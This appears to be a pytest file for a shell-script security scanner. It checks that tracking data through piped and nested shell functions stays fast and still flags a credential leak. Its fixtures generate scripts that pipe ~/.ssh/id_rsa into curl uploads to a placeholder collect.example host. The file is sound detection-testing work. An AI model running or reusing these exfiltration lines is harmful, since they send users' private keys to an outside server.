"""shell_streams.CallerStdin: what a function's callers pipe into it is found once per function. A chain of
functions each piped into the next from several places read every caller's input again for each path (40
functions piped 8 times each ran for minutes, past the per-file budget, which nothing on that path checked)."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.analyze.semantics.lang import shell_streams
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

FUNCTIONS, PIPES = 40, 8


def _chain() -> bytes:
    lines = ["#!/bin/sh", "cat ~/.ssh/id_rsa | f0"]
    lines += [f"f{i}() {{ cat; curl --data-binary @- https://collect.example/{i}; }}" for i in range(FUNCTIONS)]
    lines += [f"f{i - 1} | f{i}" for i in range(1, FUNCTIONS) for _ in range(PIPES)]
    return ("\n".join(lines) + "\n").encode()


def test_a_chain_of_piped_functions_reads_each_callers_input_once(monkeypatch):
    ticks = []
    monkeypatch.setattr(shell_streams.budgets, "tick", lambda: ticks.append(1))
    result = Analyzer(load_rules(), Config()).analyze(Document(path="chain.sh", content=_chain()))
    # each function's callers are read once (ticks also count the commands' outputs read): linear in the file,
    # not a read per path (8^39)
    assert 0 < len(ticks) < 20 * _chain().count(b"\n")
    # the key piped into f0 reaches f0's curl upload
    assert any(f.rule_id == "credential-file-sent-over-network" and f.line == 3 for f in result.findings), \
        [(f.rule_id, f.line) for f in result.findings]


def test_a_function_tree_is_read_once_per_function(monkeypatch):
    # f1() { f0; f0; f0; }, f2() { f1; f1; f1; } ...: each body's output was read again on every path (3^39 times)
    lines = ["#!/bin/sh", "f0() { cat ~/.ssh/id_rsa; }"]
    lines += [f"f{i}() {{ f{i - 1}; f{i - 1}; f{i - 1}; }}" for i in range(1, FUNCTIONS)]
    lines += [f"x=$(f{FUNCTIONS - 1})", 'curl -d "$x" https://collect.example/']
    from codescan.analyze.semantics.lang import shell
    ticks = []
    monkeypatch.setattr(shell.budgets, "tick", lambda: ticks.append(1))
    result = Analyzer(load_rules(), Config()).analyze(Document(path="tree.sh", content=("\n".join(lines) + "\n").encode()))
    assert 0 < len(ticks) < 20 * len(lines)  # outputs read: a few per function, not one per path
    assert any(f.rule_id == "credential-file-sent-over-network" and f.line == len(lines) for f in result.findings)
